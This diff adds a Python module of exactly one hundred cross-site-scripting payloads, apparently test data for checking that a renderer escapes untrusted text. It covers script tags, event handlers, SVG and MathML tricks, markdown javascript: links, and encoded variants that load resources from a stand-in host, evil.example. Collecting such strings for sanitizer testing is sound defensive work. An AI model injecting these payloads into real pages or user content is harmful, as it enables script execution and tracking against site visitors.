@@ -1,0 +1,106 @@
+"""Texts that try to run a script or to load something, were they shown as anything but text: exactly a hundred."""
+
+EVIL = "https://evil.example"
+RUN = "window.pwned=1"
+
+_TAGS = (
+    f"<script>{RUN}</script>",
+    f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    f"<script/x>{RUN}</script>",
+    f"<script\n>{RUN}</script\n>",
+    f"</textarea><script>{RUN}</script>",
+    f"</title><script>{RUN}</script>",
+    f"<!--><script>{RUN}</script>-->",
+    f"<![CDATA[<script>{RUN}</script>]]>",
+    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
+    f"<iframe src=javascript:{RUN}></iframe>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f"<iframe src={EVIL}/frame></iframe>",
+    f"<object data={EVIL}/o></object>",
+    f"<embed src={EVIL}/e>",
+    f"<link rel=stylesheet href={EVIL}/x.css>",
+    f"<link rel=prefetch href={EVIL}/p>",
+    f"<base href={EVIL}/>",
+    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
+    f"<style>@import '{EVIL}/i.css';</style>",
+    f"<style>*{{background:url({EVIL}/b)}}</style>",
+    f"<form action={EVIL}><input autofocus onfocus={RUN}></form>",
+    f"<template><script>{RUN}</script></template>",
+    f"<dialog open oncancel={RUN}>x</dialog>",
+    f"<portal src={EVIL}></portal>",
+)
+_HANDLERS = tuple(
+    f"<{tag} {event}={RUN}>"
+    for tag, event in (
+        ("img src=x", "onerror"), ("img src=x", "ONERROR"), ("image src=x", "onerror"), ("body", "onload"),
+        ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"),
+        ("details open", "ontoggle"), ("video src=x", "onerror"), ("audio src=x", "onerror"),
+        ("video><source", "onerror"), ("marquee", "onstart"), ("div style=animation-name:x", "onanimationstart"),
+        ("p tabindex=1 autofocus", "onfocus"), ("keygen autofocus", "onfocus"), ("x contenteditable", "onfocus"),
+        ("img/src=x/", "/onerror"), ("img src=x\n", "onerror"), ("img src=`x`", "onerror"), ("a href=#", "onclick"),
+    )
+)  # fmt: skip
+_SVG = (
+    f"<svg onload={RUN}>",
+    f"<svg/onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><script href={EVIL}/x.js /></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<svg><set attributeName=onmouseover to={RUN}>",
+    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
+    f"<svg><image href={EVIL}/i.png></svg>",
+    f"<svg><use href={EVIL}/u.svg#x></svg>",
+    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
+    f"<svg><style>@import '{EVIL}/s.css'</style></svg>",
+    f"<svg><title><img src=x onerror={RUN}></title></svg>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
+    f"<math href=javascript:{RUN}>x</math>",
+    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
+)
+_MARKDOWN = (
+    f"![x]({EVIL}/a.png)",
+    f"![x][ref]\n\n[ref]: {EVIL}/b.png",
+    f"!\\[x]({EVIL}/c.png)",
+    f"![]({EVIL}/d.png 'title')",
+    f"[![x]({EVIL}/e.png)]({EVIL})",
+    f"![x](<{EVIL}/f.png>)",
+    f"![x](data:image/svg+xml,<svg onload={RUN}>)",
+    f'![x](x"onerror="{RUN})',
+    f'[x](x "onmouseover={RUN}")',
+    f"[x](javascript:{RUN})",
+    f"[x](JaVaScRiPt:{RUN})",
+    f"[x](java\tscript:{RUN})",
+    f"[x](&#106;avascript:{RUN})",
+    f"[x](javascript&colon;{RUN})",
+    f"[x](vbscript:{RUN})",
+    f"[x](data:text/html,<script>{RUN}</script>)",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    f"[x]: javascript:{RUN}\n\n[x]",
+    f"<javascript:{RUN}>",
+    f"```html\n<script>{RUN}</script>\n```",
+    f"`<img src=x onerror={RUN}>`",
+    f"    <script>{RUN}</script>",
+    f"```<img/src=x onerror={RUN}>\nx\n```",
+    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
+    f"$\\href{{javascript:{RUN}}}{{x}}$",
+    f"```mermaid\ngraph TD; A[<img src={EVIL}/g.png>]\n```",
+    f"```mermaid\ngraph TD; A[<img src=x onerror={RUN}>]\n```",
+)
+_ENTITIES = (
+    f"&lt;img src=x onerror={RUN}&gt;",
+    f"&#60;img src=x onerror={RUN}&#62;",
+    f"&#x3c;script&#x3e;{RUN}&#x3c;/script&#x3e;",
+    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
+    f"\\u003cimg src=x onerror={RUN}\\u003e",
+    f"%3Cimg src=x onerror={RUN}%3E",
+    f"\uff1cimg src=x onerror={RUN}\uff1e",
+    f"<\u0000img src=x onerror={RUN}>",
+    f"<\u00adscript>{RUN}</script>",
+    f"{{{{constructor.constructor('{RUN}')()}}}}",
+    f"${{{RUN}}}",
+    f'"><img src=x onerror={RUN}>',
+    f"'-{RUN}-'",
+)  # fmt: skip
+
+PAYLOADS = (*_TAGS, *_HANDLERS, *_SVG, *_MARKDOWN, *_ENTITIES)
